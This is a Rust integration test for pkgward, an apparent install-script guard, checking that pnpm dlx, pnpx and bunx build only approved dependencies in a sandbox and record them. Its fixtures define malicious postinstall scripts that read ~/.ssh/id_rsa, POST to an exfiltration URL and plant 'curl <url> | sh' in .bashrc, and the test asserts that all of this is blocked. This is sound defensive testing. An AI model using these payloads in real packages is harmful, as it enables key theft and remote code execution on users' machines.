@@ -1,0 +1,272 @@
+//! `pnpm dlx` / `pnpx` and `bunx` against the loopback registry, through
+//! the pkgward shims: the fetched tool's approved dependency builds inside
+//! the dlx run, confined (it cannot write outside, reach the listener or
+//! read the private key), recorded with its exit code and duration; its
+//! unapproved sibling's malicious postinstall does nothing and is listed
+//! with the command that approves it and recorded as denied. bunx builds
+//! nothing, not even a package on bun's default trusted list.
+
+mod support;
+
+use std::sync::OnceLock;
+
+use support::guard::{text, to_env, Guarded};
+use support::registry::Listener;
+use support::{js_marker, shared, NpmPackage};
+
+fn fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        // What the tool needs built; it also tries what it must not.
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-native", "1.0.0")
+                .script("postinstall", "node build.js")
+                .file(
+                    "build.js",
+                    format!(
+                        "{}const os = require('os');\n\
+                         let seen = 'key:';\n\
+                         try {{ seen += fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{ seen += 'unreadable'; }}\n\
+                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'native\\n'); seen += ' bashrc:written'; }} catch (e) {{ seen += ' bashrc:refused'; }}\n\
+                         fs.appendFileSync(path.join(dir, 'dlx-native'), seen + '\\n');\n\
+                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'native\\n');\n",
+                        js_marker("dlx-native-ran")
+                    ),
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-sneak", "1.0.0")
+                .script("postinstall", "node sneak.js")
+                .file(
+                    "sneak.js",
+                    format!(
+                        "{}const os = require('os'), http = require('http');\n\
+                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
+                         const req = http.request(url + '/key', {{ method: 'POST' }}, () => {{}});\n\
+                         req.on('error', () => {{}}); req.end('x');\n\
+                         fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl ' + url + ' | sh\\n');\n",
+                        js_marker("dlx-sneak")
+                    ),
+                ),
+        );
+        // A name on bun's default trusted-dependencies list.
+        r.publish_npm(
+            &NpmPackage::new("esbuild", "0.99.0")
+                .script("postinstall", "node x.js")
+                .file("x.js", js_marker("dlx-esbuild")),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-cli", "1.0.0")
+                .dep("pw-dlx-native", "^1.0.0")
+                .dep("pw-dlx-sneak", "^1.0.0")
+                .dep("esbuild", "^0.99.0")
+                .field("bin", serde_json::json!({"pw-dlx-cli": "cli.js"}))
+                .executable(
+                    "cli.js",
+                    "#!/usr/bin/env node\n\
+                     const fs = require('fs'), path = require('path');\n\
+                     const dir = path.dirname(require.resolve('pw-dlx-native/package.json'));\n\
+                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('native missing'); process.exit(3); }\n\
+                     console.log('native ok');\n",
+                ),
+        );
+    });
+}
+
+struct T {
+    g: Guarded,
+    exfil: Listener,
+}
+
+fn setup(tool: &str, policy_extra: &str) -> T {
+    fixtures();
+    let exfil = Listener::start();
+    let host = exfil
+        .base_url()
+        .trim_start_matches("http://")
+        .trim_end_matches('/')
+        .to_string();
+    let reg = shared().npm_url();
+    let g = Guarded::new(&format!(
+        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\"]\n[network]\nallow = [\"{host}\"]\n{policy_extra}"
+    ));
+    std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join(tool)).unwrap();
+    let home = &g.sb.home;
+    // pnpm and bun read the registry from their config files.
+    std::fs::write(home.join(".npmrc"), format!("registry={reg}\n")).unwrap();
+    std::fs::create_dir_all(home.join(".config")).unwrap();
+    std::fs::write(
+        home.join(".config/.bunfig.toml"),
+        format!("[install]\nregistry = \"{reg}\"\n"),
+    )
+    .unwrap();
+    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    std::fs::write(home.join(".exfil-url"), exfil.base_url()).unwrap();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), "FAKE-PRIVATE-KEY\n").unwrap();
+    T { g, exfil }
+}
+
+fn run(t: &T, tool: &str, args: &[&str]) -> std::process::Output {
+    let g = &t.g;
+    let root = g.sb.root().to_path_buf();
+    let dir = |n: &str| root.join(n).to_string_lossy().into_owned();
+    let env = [
+        ("npm_config_store_dir", dir("pnpm-store")),
+        ("PNPM_CONFIG_UPDATE_NOTIFIER", "false".into()),
+        ("BUN_INSTALL_CACHE_DIR", dir("bun-cache")),
+        ("DO_NOT_TRACK", "1".into()),
+    ];
+    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    g.sb.command(
+        tool,
+        &[
+            g.sb.npm_env(&shared().npm_url()),
+            g.pkgward_env(),
+            to_env(&env),
+        ],
+    )
+    .args(args)
+    .output()
+    .unwrap()
+}
+
+fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
+    g.audit()
+        .into_iter()
+        .filter(|r| r["kind"] == "script")
+        .collect()
+}
+
+fn no_effects_of_sneak(t: &T) {
+    assert_eq!(
+        t.g.sb.marker("dlx-sneak"),
+        None,
+        "the sneak postinstall ran"
+    );
+    assert_eq!(t.exfil.connections().len(), 0, "the listener was reached");
+    assert_eq!(
+        std::fs::read_to_string(t.g.sb.home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+}
+
+/// `pnpm dlx` and `pnpx`: the approved dependency builds inside the run,
+/// confined, and is recorded; the unapproved one is listed and recorded;
+/// the tool works and its output and exit code are its own. Without the
+/// approval the dependency does not build and the tool fails as it would.
+#[test]
+fn pnpm_dlx_builds_approved_packages_confined() {
+    for (tool, args) in [
+        ("pnpm", &["dlx", "pw-dlx-cli"][..]),
+        ("pnpx", &["pw-dlx-cli"][..]),
+    ] {
+        let t = setup(
+            tool,
+            "[scripts]\nallow = [\"npm:pw-dlx-cli\", \"npm:pw-dlx-native@^1.0.0\"]\n",
+        );
+        let o = run(&t, tool, args);
+        let (out, err) = (text(&o.stdout), text(&o.stderr));
+        assert!(o.status.success(), "{tool}: {out}\n{err}");
+        assert!(out.contains("native ok"), "{tool}: {out}\n{err}");
+        let native = t.g.sb.marker("dlx-native").expect("the approved build ran");
+        assert_eq!(native, "key:unreadable bashrc:refused\n", "{tool}: {err}");
+        no_effects_of_sneak(&t);
+        assert_eq!(t.g.sb.marker("dlx-esbuild"), None, "{tool}: {err}");
+        assert!(
+            err.contains("pkgward approve npm:pw-dlx-sneak@1.0.0"),
+            "{tool}: {err}"
+        );
+        assert!(
+            err.contains("pkgward approve npm:esbuild@0.99.0"),
+            "{tool}: {err}"
+        );
+        assert!(!err.contains("approve npm:pw-dlx-native"), "{tool}: {err}");
+        let recs = scripts(&t.g);
+        let built = recs
+            .iter()
+            .find(|r| r["package"] == "pw-dlx-native")
+            .unwrap_or_else(|| panic!("{tool}: pw-dlx-native not recorded: {recs:#?}"));
+        assert_eq!(built["decision"], "approved", "{built:#}");
+        assert_eq!(built["ran"], true, "{built:#}");
+        assert_eq!(built["version"], "1.0.0", "{built:#}");
+        assert_eq!(built["exit_code"], 0, "{built:#}");
+        assert!(built["duration_ms"].is_number(), "{built:#}");
+        assert!(built["sandbox"].is_object(), "{built:#}");
+        let sneak = recs
+            .iter()
+            .find(|r| r["package"] == "pw-dlx-sneak")
+            .expect("pw-dlx-sneak recorded");
+        assert_eq!(sneak["decision"], "deny", "{sneak:#}");
+        assert_eq!(sneak["ran"], false, "{sneak:#}");
+    }
+    // The range does not match the version pnpm installs: not built.
+    let t = setup(
+        "pnpm",
+        "[scripts]\nallow = [\"npm:pw-dlx-cli\", \"npm:pw-dlx-native@^2\"]\n",
+    );
+    let o = run(&t, "pnpm", &["dlx", "pw-dlx-cli"]);
+    let (out, err) = (text(&o.stdout), text(&o.stderr));
+    assert_eq!(o.status.code(), Some(3), "{out}\n{err}");
+    assert!(out.contains("native missing"), "{out}\n{err}");
+    assert_eq!(t.g.sb.marker("dlx-native-ran"), None, "{err}");
+    assert!(
+        err.contains("pkgward approve npm:pw-dlx-native@1.0.0"),
+        "{err}"
+    );
+    no_effects_of_sneak(&t);
+}
+
+/// `bunx` / `bun x`: nothing builds, not even a package on bun's default
+/// trusted list (`esbuild`); the tool runs as bun leaves it. What it
+/// skipped is recorded (an approved one as not run) and the denied ones
+/// are listed with their approve command; a second run reuses bun's cache
+/// entry and records nothing.
+#[test]
+fn bunx_runs_no_install_time_code_and_lists_what_it_skipped() {
+    for (tool, args) in [
+        ("bunx", &["pw-dlx-cli"][..]),
+        ("bun", &["x", "pw-dlx-cli"][..]),
+    ] {
+        let t = setup(
+            tool,
+            "[scripts]\nallow = [\"npm:pw-dlx-cli\", \"npm:pw-dlx-native\"]\n",
+        );
+        let o = run(&t, tool, args);
+        let (out, err) = (text(&o.stdout), text(&o.stderr));
+        assert_eq!(o.status.code(), Some(3), "{tool}: {out}\n{err}");
+        assert!(out.contains("native missing"), "{tool}: {out}\n{err}");
+        assert_eq!(t.g.sb.marker("dlx-esbuild"), None, "{tool}: {err}");
+        assert_eq!(t.g.sb.marker("dlx-native-ran"), None, "{tool}: {err}");
+        no_effects_of_sneak(&t);
+        for p in ["pw-dlx-sneak", "esbuild"] {
+            assert!(
+                err.contains(&format!("pkgward approve npm:{p}@")),
+                "{tool}: {err}"
+            );
+        }
+        assert!(
+            err.contains("bunx did not build these approved packages")
+                && err.contains("pw-dlx-native@1.0.0"),
+            "{tool}: {err}"
+        );
+        let recs = scripts(&t.g);
+        let native = recs
+            .iter()
+            .find(|r| r["package"] == "pw-dlx-native")
+            .unwrap_or_else(|| panic!("{tool}: {recs:#?}"));
+        assert_eq!(native["decision"], "approved", "{native:#}");
+        assert_eq!(native["ran"], false, "{native:#}");
+        let esbuild = recs
+            .iter()
+            .find(|r| r["package"] == "esbuild")
+            .expect("esbuild recorded");
+        assert_eq!(esbuild["decision"], "deny", "{esbuild:#}");
+        // The cached entry again: nothing installed, nothing recorded.
+        let before = scripts(&t.g).len();
+        let o = run(&t, tool, args);
+        assert!(text(&o.stdout).contains("native missing"));
+        assert_eq!(scripts(&t.g).len(), before, "{tool}: {}", text(&o.stderr));
+    }
+}
